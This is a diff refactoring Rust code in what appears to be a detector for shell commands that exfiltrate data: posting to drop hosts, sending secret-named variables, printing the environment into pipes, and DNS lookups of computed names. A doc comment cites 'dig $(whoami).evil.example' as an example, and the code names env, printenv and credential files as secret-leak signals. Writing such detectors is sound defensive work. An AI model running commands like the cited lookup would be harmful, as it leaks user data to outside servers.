@@ -54,32 +54,33 @@ const DATA: &[&str] = &[
     "--body-file",
 ];
 
-pub(super) fn note_sent(views: &[View<'_>], groups: &[Redirected], found: &mut Found) {
+pub(super) fn note_sent_data(views: &[View<'_>], groups: &[Redirected], found: &mut Found) {
     let mut asked = false;
-    for view in views.iter().take_while(|view| view.is_paid_for()) {
+    for view in views.iter().take_while(|view| view.spend_walk_steps()) {
         let hosts = hosts::contacted_hosts(view);
-        let puts = !view.values(DATA).is_empty()
+        let puts = !view.option_values(DATA).is_empty()
             || view.has_argument(&["-X", "--method=POST"])
             || !super::hosts::DOWNLOADERS.contains(&view.name.as_str());
-        let dropped =
-            hosts.iter().filter(|host| hosts::is_catcher(host) || (puts && hosts::is_drop(host)));
+        let dropped = hosts
+            .iter()
+            .filter(|host| hosts::is_request_catcher(host) || (puts && hosts::is_drop_host(host)));
         found.drops.extend(dropped.cloned());
         if hosts::can_send_data(view) && !hosts.is_empty() {
             note_sent_variables(view, found);
         }
         found.hosts.extend(hosts);
-        note_computed_names(view, found);
-        asked |= note_sent_statements(view, found);
+        note_computed_host_names(view, found);
+        asked |= note_sql_statements(view, found);
     }
     if asked {
         // The text echoed into a client is not distinguished from text echoed elsewhere on the
         // line.
         let echoed =
             views.iter().filter(|view| matches!(view.name.as_str(), "echo" | "printf" | "cat"));
-        found.sql.extend(echoed.flat_map(|view| view.texts().map(str::to_owned)));
+        found.sql.extend(echoed.flat_map(|view| view.input_texts().map(str::to_owned)));
     }
     let sockets: Vec<String> =
-        groups.iter().filter_map(|(_, file)| hosts::of_socket(file)).collect();
+        groups.iter().filter_map(|(_, file)| hosts::host_of_socket_path(file)).collect();
     let carriers = !sockets.is_empty()
         || views
             .iter()
@@ -89,15 +90,16 @@ pub(super) fn note_sent(views: &[View<'_>], groups: &[Redirected], found: &mut F
         let kept = found
             .shows
             .iter()
-            .filter(|text| path_kind::holds_keys(text) || path_kind::is_env(text));
+            .filter(|text| path_kind::holds_credentials(text) || path_kind::is_env_file(text));
         let kept: Vec<String> = kept.cloned().collect();
         found.leaks.extend(kept);
-        found.leaks.extend(views.iter().filter_map(|view| printed(view, groups)));
+        found.leaks.extend(views.iter().filter_map(|view| printed_secrets(view, groups)));
     }
 }
 
-/// The environment, or a keeper of secrets, printed into something.
-fn printed(view: &View<'_>, groups: &[Redirected]) -> Option<String> {
+/// Returns the environment, or the output of a secret store, if a command prints it into a pipe or
+/// a file.
+fn printed_secrets(view: &View<'_>, groups: &[Redirected]) -> Option<String> {
     let name = view.name.as_str();
     let whole = match name {
         "env" | "printenv" | "set" => view.args.is_empty(),
@@ -108,14 +110,16 @@ fn printed(view: &View<'_>, groups: &[Redirected]) -> Option<String> {
         _ => false,
     };
     let keeps = KEEPERS.iter().any(|(known, verbs)| *known == name && view.has_argument(verbs));
-    let feeds = view.feeds() || !groups.is_empty() || !view.command.redirects.is_empty();
+    let feeds =
+        view.is_output_consumed() || !groups.is_empty() || !view.command.redirects.is_empty();
     if whole && feeds {
         return Some("the environment".to_owned());
     }
     keeps.then(|| name.to_owned())
 }
 
-/// Variables that are named like secrets, in what is sent. Headers and `-u` authenticate.
+/// Notes variables with names of secrets in data that is sent. Headers and `-u` are left out,
+/// because they authenticate.
 fn note_sent_variables(view: &View<'_>, found: &mut Found) {
     let signs = ["-H", "--header", "-u", "--user", "--oauth2-bearer", "--password", "-b"];
     let mut args = view.args.iter().map(String::as_str);
@@ -126,11 +130,12 @@ fn note_sent_variables(view: &View<'_>, found: &mut Found) {
             found.sent_variables.extend(secret_variables(arg));
         }
     }
-    let here: Vec<String> = view.texts().skip(view.args.len()).flat_map(secret_variables).collect();
+    let here: Vec<String> =
+        view.input_texts().skip(view.args.len()).flat_map(secret_variables).collect();
     found.sent_variables.extend(here);
 }
 
-/// The variables of a text that are named like secrets.
+/// Returns the variables in a text whose names are those of secrets.
 fn secret_variables(text: &str) -> Vec<String> {
     let names = text.split('$').skip(1).map(|part| part.trim_start_matches('{'));
     let names = names.map(|name| {
@@ -144,9 +149,9 @@ fn secret_variables(text: &str) -> Vec<String> {
     names.filter(secret).map(str::to_owned).collect()
 }
 
-/// `dig $(whoami).evil.example`: a name that is computed and then asked for is a message to the
-/// server that answers.
-fn note_computed_names(view: &View<'_>, found: &mut Found) {
+/// Notes host names that are computed and then looked up, because each lookup sends the name to a
+/// server: `dig $(whoami).evil.example`.
+fn note_computed_host_names(view: &View<'_>, found: &mut Found) {
     if !RESOLVERS.contains(&view.name.as_str()) {
         return;
     }
@@ -185,14 +190,14 @@ const CLIENTS: &[&str] = &[
     "mycli",
 ];
 
-/// What a database client is handed: arguments and here-documents; and whether something may be
-/// echoed into it.
-fn note_sent_statements(view: &View<'_>, found: &mut Found) -> bool {
+/// Notes the arguments and here-documents of a database client as SQL. Returns whether more
+/// statements may come from a pipe.
+fn note_sql_statements(view: &View<'_>, found: &mut Found) -> bool {
     let name = view.name.as_str();
     if !CLIENTS.contains(&name) {
         return false;
     }
-    found.sql.extend(view.texts().filter(|text| !text.starts_with('-')).map(str::to_owned));
+    found.sql.extend(view.input_texts().filter(|text| !text.starts_with('-')).map(str::to_owned));
     found.sql.insert(view.args.join(" "));
     view.command.context == Context::Pipeline
 }
